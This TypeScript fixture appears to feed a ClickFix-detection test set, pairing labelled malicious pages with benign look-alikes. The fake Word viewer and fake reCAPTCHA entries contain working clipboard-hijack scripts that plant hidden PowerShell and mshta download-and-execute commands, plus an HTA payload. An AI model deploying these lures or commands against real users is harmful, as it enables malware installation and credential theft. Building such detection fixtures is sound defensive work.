import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, cssRoute, jsonRoute, fileRoute, pngRoute } from '../parts/e-bin.js';
import { page, badge, wordmark, baseSiteCss, siteShell, b64, cookieBanner } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-clickfix-doc-preview-mshta',
  label: 'clickfix',
  kind: 'clickfix-document-viewer',
  url: 'https://xero-files-viewer.com/doc/?f=Purchase_Order_PO-7731.docx',
  body: page({
    title: 'Purchase_Order_PO-7731.docx - Word',
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1;color:#323130}
.rb{background:#2b579a;color:#fff;padding:8px 16px;font-size:14px;display:flex;gap:18px}
.pg{max-width:800px;margin:30px auto;background:#fff;min-height:900px;box-shadow:0 1px 4px rgba(0,0,0,.15);padding:60px;filter:blur(4px);user-select:none}
.dlg{position:fixed;left:50%;top:40%;transform:translate(-50%,-50%);width:480px;background:#fff;box-shadow:0 12px 40px rgba(0,0,0,.35);border-radius:4px;padding:24px 26px}
.dlg h3{margin:0 0 10px;color:#a4262c}
.b{background:#2b579a;color:#fff;border:0;padding:9px 20px;font-size:14px;cursor:pointer;border-radius:2px}
ol{font-size:14px;line-height:1.8;padding-left:20px}kbd{background:#f3f2f1;border:1px solid #c8c6c4;border-radius:3px;padding:1px 6px;font-family:inherit}`,
    body: `<div class="rb"><b>Word</b><span>File</span><span>Home</span><span>Insert</span><span>View</span></div>
<div class="pg"><h2>PURCHASE ORDER PO-7731</h2><p>Supplier: Midland Timber Merchants Ltd</p><p>Delivery: Unit 3, Kirkstall Industrial Park, Leeds</p><p>Items: 120 × C24 47×150 4.8m, 40 × OSB3 18mm 2440×1220 …</p><p>Total: £6,840.00 + VAT</p></div>
<div class="dlg" id="dlg"><h3>⚠ Unable to display document</h3>
<p style="font-size:14px">The "Word Online" extension is not installed in your browser, so this document cannot be previewed. Click <b>How to fix</b> to install it automatically.</p>
<button class="b" id="fix">How to fix</button>
<div id="st" style="display:none"><ol><li>Press <kbd>Win</kbd> + <kbd>X</kbd> and choose <b>Terminal</b> (or <b>Windows PowerShell</b>)</li><li>Right-click inside the window (or press <kbd>Ctrl</kbd> + <kbd>V</kbd>) to paste the fix we copied for you</li><li>Press <kbd>Enter</kbd>, then refresh this page</li></ol></div></div>
<script>
var c='mshta https://xero-files-viewer.com/doc/upd/wordonline.hta #  Word Online Extension Installer - Microsoft Corporation ID 5c4b-7731';
document.getElementById('fix').onclick=function(){navigator.clipboard.writeText(c).then(function(){},function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();});
this.textContent='Copied ✓';document.getElementById('st').style.display='block';fetch('/doc/api/c?f=PO-7731',{method:'POST'}).catch(function(){});};
</script>`,
  }),
  routes: {
    'xero-files-viewer.com/doc/upd/wordonline.hta': fileRoute(`<html><head><HTA:APPLICATION WINDOWSTATE="minimize" SHOWINTASKBAR="no"/><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w hidden -ep bypass -c ""iex(irm 'https://xero-files-viewer.com/doc/upd/s.ps1')""",0:window.close</script></head></html>`, 'application/hta', 'wordonline.hta'),
    'xero-files-viewer.com/doc/api/c': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'ya-clickfix-recaptcha-fournitures-fr',
  label: 'clickfix',
  kind: 'clickfix-compromised-site',
  url: 'https://www.fournituresbureaulaval.ca/catalogue/papeterie/',
  body: page({
    title: 'Papeterie – Fournitures de bureau Laval',
    lang: 'fr-CA',
    css: baseSiteCss + `#rc{position:fixed;inset:0;background:rgba(255,255,255,.97);display:flex;align-items:center;justify-content:center;z-index:99}.rbox{border:1px solid #d3d3d3;background:#f9f9f9;border-radius:3px;box-shadow:0 0 4px rgba(0,0,0,.08);width:300px;padding:14px;display:flex;align-items:center;justify-content:space-between}.ck{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer}.steps{display:none;margin-top:16px;max-width:360px;background:#fff;border:1px solid #ddd;border-radius:4px;padding:16px;font-size:15px;line-height:1.8}`,
    body: `<div id="rc"><div><p style="font-size:18px;text-align:center">Veuillez confirmer que vous n'êtes pas un robot</p>
<div class="rbox"><div style="display:flex;align-items:center;gap:12px"><div class="ck" id="ck"></div><span>Je ne suis pas un robot</span></div><div style="font-size:10px;color:#555;text-align:center">reCAPTCHA<br>Confidentialité - Conditions</div></div>
<div class="steps" id="steps"><b>Étapes de vérification</b><br>1. Appuyez sur la touche Windows + R<br>2. Appuyez sur CTRL + V<br>3. Appuyez sur Entrée</div></div></div>
${siteShell({
  brand: 'Fournitures de bureau Laval',
  logo: `${badge('FBL', '#1d4ed8')}<b>Fournitures de bureau Laval</b>`,
  nav: [['Papeterie', '#'], ['Encre et toner', '#'], ['Mobilier', '#'], ['Comptes entreprises', '#']],
  accent: '#1d4ed8',
  main: `<section class="container" style="padding:30px 20px"><h1>Papeterie</h1><div class="grid"><div class="card">Papier multifonction 8½ × 11, boîte de 5000 – 54,99 $</div><div class="card">Stylos à bille, paquet de 50 – 12,49 $</div><div class="card">Classeurs à anneaux 2 po – 6,79 $</div></div></section>`,
  footer: `<p>Fournitures de bureau Laval inc. · 1850, boul. Le Corbusier, Laval (Québec) H7S 2K1 · 450 555-0132</p>`,
})}
<script>
(function(){var k='$u=\\'https://fbl-cdn-statique.com/c.txt\\';iex(irm $u)';var c='powershell -w 1 -c "'+k+'"  # Vérification reCAPTCHA ID : '+Math.floor(1e6+Math.random()*9e6);
document.getElementById('ck').onclick=function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');document.body.removeChild(t);
this.style.borderColor='#4a90e2';document.getElementById('steps').style.display='block';};})();
</script>`,
  }),
},
{
  id: 'ya-security-blog-clickfix-writeup',
  label: 'clean',
  kind: 'security-blog-quoting-commands',
  url: 'https://www.smallbizcyber.co.uk/blog/fake-captcha-clickfix-attacks-on-supplier-websites',
  body: page({
    title: '"Verify you are human": how fake CAPTCHAs on supplier websites trick staff into running malware | SmallBiz Cyber',
    css: baseSiteCss + `article{max-width:760px;margin:30px auto;padding:0 20px}article p{font-size:17px}blockquote{border-left:4px solid #f59e0b;margin:18px 0;padding:8px 16px;background:#fffbeb}`,
    body: `<header style="padding:14px 24px;border-bottom:1px solid #eee;display:flex;justify-content:space-between"><b>SmallBiz Cyber</b><nav class="small"><a href="/blog">Blog</a> · <a href="/training">Staff training</a> · <a href="/contact">Contact</a></nav></header>
<article>
<p class="small muted">Threat briefing · 21 October 2025 · 7 min read</p>
<h1>"Verify you are human": how fake CAPTCHAs on supplier websites trick staff into running malware</h1>
<p>Over the past month three of our clients – an accountancy practice, a builder's merchant and a dental group – had staff hit by the same trick. Each visited a legitimate supplier website that had been hacked. Instead of the usual page, they saw a Cloudflare-style box asking them to verify they were human.</p>
<p>Clicking the box silently copied a command to the clipboard and showed "verification steps": press Windows + R, press Ctrl + V, press Enter. That runs whatever the attacker put on the clipboard. The command we recovered looked like this:</p>
<pre>powershell -w h -nop -c "$r=iwr https://cdn-wpcache-static[.]com/v/k3j9xq -UseBasicParsing;iex $r.Content" # ✅ I am not a robot - Cloudflare Verification ID: 448120</pre>
<p>Note the comment at the end: the Run dialog only shows the last part of a long line, so the victim sees a reassuring "I am not a robot" message rather than the PowerShell. Another variant used <code>mshta</code>:</p>
<pre>mshta https://xero-files-viewer[.]com/doc/upd/wordonline.hta # Word Online Extension Installer</pre>
<p>The script that follows downloads an info-stealer that grabs saved browser passwords and session cookies – including logins to banking and accounting software.</p>
<blockquote><b>The rule for staff:</b> no real website ever needs you to press Windows + R or paste anything into Terminal or PowerShell to prove you're human.</blockquote>
<h2>What IT can do</h2>
<ul><li>Disable the Run dialog for standard users via Group Policy (User Configuration → Administrative Templates → Start Menu and Taskbar → Remove Run menu from Start Menu).</li><li>Block <code>mshta.exe</code> with WDAC or AppLocker if you don't use HTA applications.</li><li>Turn on PowerShell script block logging so you can see what ran.</li></ul>
<p class="small muted">Indicators are defanged. If you think someone on your team ran one of these commands, disconnect the PC from the network and call us on 0161 555 0190.</p>
</article>`,
  }),
},
{
  id: 'ya-it-kb-winget-copy-commands',
  label: 'clean',
  kind: 'it-page-quoting-commands',
  url: 'https://help.ardeenetworks.ie/kb/install-sage-and-printer-drivers',
  body: page({
    title: 'KB0142 – Installing Sage 50 prerequisites and the office printer driver | Ardee Networks Help',
    lang: 'en-IE',
    css: baseSiteCss + `.w{max-width:820px;margin:28px auto;padding:0 20px}.cmd{position:relative}.cmd button{position:absolute;top:8px;right:8px;background:#334155;color:#fff;border:0;border-radius:4px;padding:4px 10px;font-size:12px;cursor:pointer}`,
    body: `<header style="padding:14px 24px;border-bottom:1px solid #eee;display:flex;gap:10px;align-items:center">${badge('AN', '#0f766e', '#fff', 32)}<b>Ardee Networks Help Centre</b></header>
<main class="w">
<p class="small muted">Knowledge base › Workstations · KB0142 · Updated 2 Oct 2025</p>
<h1>Installing Sage 50 prerequisites and the office printer driver</h1>
<p>Managed clients with local admin rights can install these themselves. If you don't have admin rights, raise a ticket and we'll push them through Intune instead.</p>
<h2>1. Open PowerShell as administrator</h2>
<p>Right-click the Start button and choose <b>Terminal (Admin)</b>.</p>
<h2>2. Install the .NET runtime and Visual C++ redistributable</h2>
<div class="cmd"><pre id="c1">winget install --id Microsoft.DotNet.DesktopRuntime.8 -e --accept-source-agreements
winget install --id Microsoft.VCRedist.2015+.x64 -e</pre><button data-c="c1">Copy</button></div>
<h2>3. Install the Brother MFC-L8900CDW driver</h2>
<div class="cmd"><pre id="c2">Add-PrinterDriver -Name "Brother MFC-L8900CDW series"
Add-PrinterPort -Name "IP_192.168.10.40" -PrinterHostAddress "192.168.10.40"
Add-Printer -Name "Office MFC" -DriverName "Brother MFC-L8900CDW series" -PortName "IP_192.168.10.40"</pre><button data-c="c2">Copy</button></div>
<p class="card small" style="background:#fef2f2;border-color:#fecaca"><b>Security note:</b> only run commands from this help centre (help.ardeenetworks.ie) or from an engineer on a call you made. A website asking you to press Win + R and paste something to "verify you are human" is an attack – close it and tell us.</p>
</main>
<script>document.querySelectorAll('[data-c]').forEach(function(b){b.onclick=function(){navigator.clipboard.writeText(document.getElementById(b.dataset.c).textContent).then(function(){b.textContent='Copied';setTimeout(function(){b.textContent='Copy'},1500)});};});</script>`,
  }),
},
{
  id: 'ya-homebrew-install-copy-own-domain',
  label: 'clean',
  kind: 'it-page-quoting-commands',
  url: 'https://brew.sh/en-gb/?ref=ardee-kb',
  body: page({
    title: 'Homebrew — The Missing Package Manager for macOS (or Linux)',
    css: `body{margin:0;font-family:-apple-system,"Helvetica Neue",Arial,sans-serif;background:#fbf7f0;color:#2e2a24;text-align:center}
main{max-width:760px;margin:0 auto;padding:50px 20px}
h1{font-size:56px;margin:10px 0 0;color:#2e2a24}h2{font-weight:400;font-size:22px;color:#6b5f50}
.ins{display:flex;align-items:center;gap:10px;background:#fff;border:1px solid #e6ded1;border-radius:6px;padding:12px 14px;margin:20px 0;text-align:left}
.ins code{flex:1;font-family:Menlo,Consolas,monospace;font-size:14px;overflow-x:auto;white-space:nowrap}
.ins button{border:0;background:#f9d094;border-radius:4px;padding:6px 10px;cursor:pointer}
.small{font-size:14px;color:#6b5f50}`,
    body: `<main>
<div style="font-size:64px">🍺</div>
<h1>Homebrew</h1>
<h2>The Missing Package Manager for macOS (or Linux)</h2>
<h3 style="margin-top:40px">Install Homebrew</h3>
<div class="ins"><code id="selectable">/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"</code><button id="copy" title="Copy to clipboard">📋</button></div>
<p class="small">Paste that in a macOS Terminal or Linux shell prompt.</p>
<p class="small">The script explains what it will do and then pauses before it does it. Read about other <a href="https://docs.brew.sh/Installation">installation options</a>.</p>
<p class="small">Or download the latest macOS <a href="https://github.com/Homebrew/brew/releases/latest">.pkg installer</a>.</p>
<h3 style="margin-top:40px">What Does Homebrew Do?</h3>
<p>Homebrew installs the stuff you need that Apple (or your Linux system) didn't.</p>
<div class="ins"><code>$ brew install wget</code></div>
<p class="small" style="margin-top:40px">Homebrew was created by Max Howell. Website by Rémi Prévost, Mike McQuaid and Danielle Lalonde.</p>
</main>
<script>document.getElementById('copy').addEventListener('click',function(){navigator.clipboard.writeText(document.getElementById('selectable').textContent);});</script>`,
  }),
},
{
  id: 'ya-cloudflare-challenge-architects-site',
  label: 'clean',
  kind: 'bot-check-interstitial',
  url: 'https://www.brackenarchitects.co.uk/projects/riverside-offices/',
  body: `<!DOCTYPE html><html lang="en-US"><head><title>Just a moment...</title><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta http-equiv="X-UA-Compatible" content="IE=Edge"><meta name="robots" content="noindex,nofollow"><meta name="viewport" content="width=device-width,initial-scale=1">
<style>*{box-sizing:border-box;margin:0;padding:0}html{line-height:1.15;-webkit-text-size-adjust:100%;color:#313131;font-family:system-ui,-apple-system,BlinkMacSystemFont,"Segoe UI",Roboto,"Helvetica Neue",Arial,sans-serif}body{display:flex;flex-direction:column;height:100vh;min-height:100vh}.main-content{margin:8rem auto;max-width:60rem;padding-left:1.5rem;padding-right:1.5rem;width:100%}.h1{font-size:2.5rem;font-weight:500;line-height:3.75rem}.h2{font-size:1.5rem;font-weight:500;line-height:2.25rem;margin-top:1rem}.spacer{margin:2rem 0}.lds-ring{display:inline-block;position:relative;width:1.875rem;height:1.875rem}.lds-ring div{box-sizing:border-box;display:block;position:absolute;width:1.875rem;height:1.875rem;border:.3rem solid #595959;border-radius:50%;animation:lds-ring 1.2s cubic-bezier(.5,0,.5,1) infinite;border-color:#313131 transparent transparent transparent}@keyframes lds-ring{0%{transform:rotate(0)}100%{transform:rotate(360deg)}}.footer{font-size:.75rem;line-height:1.125rem;margin:0 auto;max-width:60rem;padding-left:1.5rem;padding-right:1.5rem;width:100%;text-align:center;margin-top:auto;padding-bottom:1rem}</style>
</head><body class="no-js"><div class="main-wrapper" role="main"><div class="main-content"><h1 class="zone-name-title h1">www.brackenarchitects.co.uk</h1><h2 class="h2" id="challenge-body-text">Verifying you are human. This may take a few seconds.</h2><div class="spacer"><div class="lds-ring"><div></div><div></div><div></div><div></div></div></div><div id="challenge-success-text" class="h2" style="display:none">Verification successful</div><div class="core-msg spacer">www.brackenarchitects.co.uk needs to review the security of your connection before proceeding.</div></div></div>
<script>(function(){window._cf_chl_opt={cvId:'3',cZone:'www.brackenarchitects.co.uk',cType:'managed',cRay:'8d7f2a1c4e9b3f06',cH:'Tz8Kp2wQ1vX7mR4yL9nB3cJ6hE0aS5dF',cUPMDTk:"\\/projects\\/riverside-offices\\/?__cf_chl_tk=Xk9q2LmP7vR4tY1sN6bH",cFPWv:'b',cITimeS:'1761567210'};
var a=document.createElement('script');a.src='/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1?ray=8d7f2a1c4e9b3f06';document.getElementsByTagName('head')[0].appendChild(a);})();</script>
<div class="footer" role="contentinfo"><div class="footer-inner"><div class="clearfix diagnostic-wrapper"><div class="ray-id">Ray ID: <code>8d7f2a1c4e9b3f06</code></div></div><div class="text-center" id="footer-text">Performance &amp; security by <a rel="noopener noreferrer" href="https://www.cloudflare.com?utm_source=challenge&utm_campaign=m" target="_blank">Cloudflare</a></div></div></div></body></html>`,
  routes: {
    'www.brackenarchitects.co.uk/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1': jsRoute(`(function(){var o=window._cf_chl_opt||{};setTimeout(function(){document.getElementById('challenge-body-text').style.display='none';document.getElementById('challenge-success-text').style.display='block';document.cookie='cf_clearance=Qm4xT9p2Lk7vR1yZ8bN3cW6hE0aS5dF-'+Date.now()+'-0-1.0.1.1; path=/; SameSite=None; Secure';setTimeout(function(){location.replace(o.cUPMDTk)},800);},1800);})();`),
    'www.brackenarchitects.co.uk/projects/riverside-offices/?__cf_chl_tk=Xk9q2LmP7vR4tY1sN6bH': htmlRoute(page({
      title: 'Riverside Offices, York – Bracken Architects',
      css: baseSiteCss,
      body: siteShell({
        brand: 'Bracken Architects',
        logo: `${badge('BA', '#7b3f00')}<b style="font-size:19px">Bracken Architects</b>`,
        nav: [['Projects', '/projects/'], ['Studio', '/studio/'], ['Contact', '/contact/']],
        accent: '#7b3f00',
        main: `<section class="container" style="padding:30px 20px;max-width:820px"><h1>Riverside Offices, York</h1><p class="muted">Refurbishment of a 1930s warehouse into 1,200 m² of flexible office space, completed 2025. BREEAM Very Good.</p><p>The brief was to retain the brick shell and timber roof trusses while bringing the building up to modern energy standards…</p></section>`,
        footer: `<p>Bracken Architects Ltd · 9 Micklegate, York YO1 6JH · RIBA Chartered Practice</p>`,
      }),
    })),
  },
},
];
